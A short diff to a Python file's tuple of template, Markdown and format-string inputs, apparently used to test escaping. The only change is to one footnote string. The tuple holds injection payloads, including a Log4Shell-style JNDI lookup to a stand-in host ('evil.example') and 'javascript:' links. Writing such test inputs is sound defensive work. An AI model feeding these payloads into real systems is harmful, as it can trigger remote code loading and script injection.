@@ -107,7 +107,7 @@ TEMPLATES: tuple[str, ...] = (
     "${jndi:ldap://evil.example/a}", "#{RUN}", "<%= x %>", "%(name)s", "{name}", "{.__class__}", "$name",
     "!ENV HOME", ":::python", "{: onclick=x }", "[go](javascript:x)", "![x](https://evil.example/x)",
     "`code` **bold** _it_ ~~gone~~", "# heading", "> quoted", "| a | b |", "<https://evil.example/>", "[x]: javascript:y",
-    "\\x", "\\", "%", "&", "&nbsp;", "&#", "*[HTML]: x", "[^x]: y", "+++ x", "??? note", "!!! danger",
+    "\\x", "\\", "%", "&", "&nbsp;", "&#", "*[HTML]: x", "[ ^x]: y", "+++ x", "??? note", "!!! danger",
 )  # fmt: skip
 """What some template language, Markdown or format string would read as its own."""
 
